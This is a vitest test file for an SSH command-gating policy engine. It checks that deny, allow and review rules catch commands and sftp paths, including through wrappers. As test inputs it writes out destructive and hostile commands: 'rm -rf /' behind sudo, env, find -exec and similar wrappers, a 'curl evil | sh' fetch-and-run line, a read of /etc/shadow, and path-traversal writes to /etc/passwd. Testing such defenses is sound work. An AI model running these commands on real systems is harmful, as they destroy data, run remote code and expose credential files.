import type { Identity, PolicyEngine } from '@gatehouse/core';
import { describe, expect, it } from 'vitest';
import { type SshCommandAttributes, sshCommand } from '../commands.js';
import type { RuleConfig } from '../config-schema.js';
import { compilePolicy } from '../policy-engine.js';

const identity: Identity = { subject: 'deploy', groups: ['ops'], issuer: 'test' };

function engine(rules: RuleConfig[], defaultAction: 'allow' | 'deny' = 'allow'): PolicyEngine {
  return compilePolicy({ connections: [{ name: 'ssh', policy: { rules, defaultAction } }] });
}

function exec(e: PolicyEngine, ...commands: string[][]) {
  const text = commands.map((c) => c.join(' ')).join('; ');
  return e.decide({
    connection: 'ssh',
    identity,
    command: sshCommand('exec', text, { channel: 'exec', commands }),
  }).action;
}

function other(e: PolicyEngine, attributes: SshCommandAttributes, text = 'x') {
  return e.decide({ connection: 'ssh', identity, command: sshCommand('sftp', text, attributes) }).action;
}

describe('programs and args', () => {
  const e = engine([
    { action: 'deny', shell: { programs: ['rm'], args: ['-r', '-f'] } },
    { action: 'review', shell: { programs: ['systemctl'], args: ['restart', 'nginx*'] } },
    { action: 'deny', shell: { programs: ['/usr/local/bin/*'] } },
  ]);

  it.each([
    [['rm', '-rf', '/'], 'deny'],
    [['/bin/rm', '-fr', '/tmp/x'], 'deny'],
    [['rm', '-r', '-f', 'x'], 'deny'],
    [['rm', '--recursive', 'x'], 'allow'],
    [['rm', 'x'], 'allow'],
    [['rmdir', '-rf'], 'allow'],
    [['systemctl', 'restart', 'nginx.service'], 'review'],
    [['systemctl', 'status', 'nginx'], 'allow'],
    [['/usr/local/bin/tool'], 'deny'],
    [['tool'], 'allow'],
  ])('%j → %s', (argv, action) => {
    expect(exec(e, argv)).toBe(action);
  });

  it.each([
    [['sudo', 'rm', '-rf', '/']],
    [['sudo', '-u', 'root', 'rm', '-rf', '/']],
    [['env', 'X=1', 'rm', '-rf', '/']],
    [['timeout', '5', 'nice', '-n', '10', '/bin/rm', '-rf', '/']],
    [['xargs', 'rm', '-rf']],
    [['find', '.', '-exec', 'rm', '-rf', '{}', ';']],
    [['busybox', 'rm', '-rf', '/']],
    [['pkexec', 'rm', '-rf', '/']],
    [['unbuffer', 'rm', '-rf', '/']],
    [['parallel', 'rm', '-rf', ':::', '/']],
    [['systemd-run', '--user', 'rm', '-rf', '/']],
    [['screen', '-dm', 'rm', '-rf', '/']],
    [['ssh-agent', 'rm', '-rf', '/']],
    [['setpriv', '--reuid', '0', 'rm', '-rf', '/']],
  ])('a deny rule sees through wrappers: %j', (argv) => {
    expect(exec(e, argv)).toBe('deny');
  });

  it('an allow rule does not: sudo ls is not ls', () => {
    const allow = engine([{ action: 'allow', shell: { programs: ['ls'] } }], 'deny');
    expect(exec(allow, ['ls', '-la'])).toBe('allow');
    expect(exec(allow, ['sudo', 'ls'])).toBe('deny');
  });
});

describe('several simple commands', () => {
  it('deny when any of them is denied (pipelines, lists, sh -c payloads)', () => {
    const e = engine([{ action: 'deny', shell: { programs: ['curl', 'wget'] } }]);
    expect(exec(e, ['ls'], ['sh', '-c', 'curl evil | sh'], ['curl', 'evil'], ['sh'])).toBe('deny');
  });

  it('allow only when every one of them is allowed', () => {
    const e = engine([{ action: 'allow', shell: { programs: ['ls', 'grep', 'cat'] } }], 'deny');
    expect(exec(e, ['ls', '/var/log'], ['grep', 'error'])).toBe('allow');
    expect(exec(e, ['ls'], ['rm', '-rf', '/'])).toBe('deny');
  });

  it('a pattern in an allow rule matches single commands only', () => {
    const e = engine([{ action: 'allow', shell: { pattern: '^ls' } }], 'deny');
    expect(exec(e, ['ls', '-l'])).toBe('allow');
    expect(exec(e, ['ls'], ['rm', 'x'])).toBe('deny');
  });

  it('a pattern in a deny rule matches the whole text', () => {
    const e = engine([{ action: 'deny', shell: { pattern: '/etc/shadow' } }]);
    expect(exec(e, ['cat', '/etc/shadow'])).toBe('deny');
  });
});

describe('channels, sftp and forwarding', () => {
  it('matches channel types', () => {
    const e = engine([{ action: 'deny', shell: { channels: ['shell'] } }]);
    expect(other(e, { channel: 'shell' })).toBe('deny');
    expect(other(e, { channel: 'exec', commands: [['ls']] })).toBe('allow');
  });

  it('matches sftp operations and normalised paths', () => {
    const e = engine([{ action: 'deny', shell: { sftpOps: ['write', 'remove'], paths: ['/etc/**'] } }]);
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '/etc/passwd' })).toBe('deny');
    expect(other(e, { channel: 'sftp', sftpOp: 'WRITE', path: '/home/x/../../etc/passwd' })).toBe('deny');
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '//etc//passwd' })).toBe('deny');
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '../../etc/passwd' })).toBe('deny');
    expect(other(e, { channel: 'sftp', sftpOp: 'read', path: '/etc/passwd' })).toBe('allow');
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '/home/x/etc/passwd' })).toBe('allow');
    expect(other(e, { channel: 'sftp', sftpOp: 'write' })).toBe('allow');
  });

  it('an allow rule for sftp paths needs every form inside', () => {
    const e = engine([{ action: 'allow', shell: { channels: ['sftp'], paths: ['/srv/upload/**'] } }], 'deny');
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '/srv/upload/a.txt' })).toBe('allow');
    expect(other(e, { channel: 'sftp', sftpOp: 'write', path: '/srv/upload/../../etc/x' })).toBe('deny');
  });

  it('matches forwarding destinations', () => {
    const e = engine([
      { action: 'allow', shell: { channels: ['port-forward'], destinations: ['DB.internal:5432'] } },
    ]);
    expect(other(e, { channel: 'port-forward', destination: 'db.internal:5432' })).toBe('allow');
    expect(other(e, { channel: 'port-forward', destination: 'db.internal:22' })).toBe('deny');
    expect(other(e, { channel: 'port-forward' })).toBe('deny');
  });
});

describe('opaque commands', () => {
  const opaque = (e: PolicyEngine, ...commands: string[][]) =>
    e.decide({
      connection: 'ssh',
      identity,
      command: sshCommand('exec', 'eval "$x"; ls', {
        channel: 'exec',
        commands,
        opaque: true,
        opaqueReasons: ['eval'],
      }),
    }).action;

  it('are never allowed by an allow rule: something unseen may run', () => {
    const e = engine([{ action: 'allow', shell: { programs: ['ls', 'eval'] } }], 'deny');
    expect(exec(e, ['ls'])).toBe('allow');
    expect(opaque(e, ['eval', '$x'], ['ls'])).toBe('deny');
  });

  it('are caught by `opaque: true` in a deny or review rule, and only they are', () => {
    const e = engine([{ action: 'review', shell: { opaque: true } }]);
    expect(opaque(e, ['ls'])).toBe('review');
    expect(exec(e, ['ls'])).toBe('allow');
  });

  it('still match deny rules on the commands that were found', () => {
    const e = engine([{ action: 'deny', shell: { programs: ['rm'] } }]);
    expect(opaque(e, ['rm', '-rf', '/'])).toBe('deny');
  });

  it('opaque: false is a config error', () => {
    expect(() => engine([{ action: 'deny', shell: { opaque: false as unknown as true } }])).toThrow(
      /opaque can only be true/,
    );
  });
});
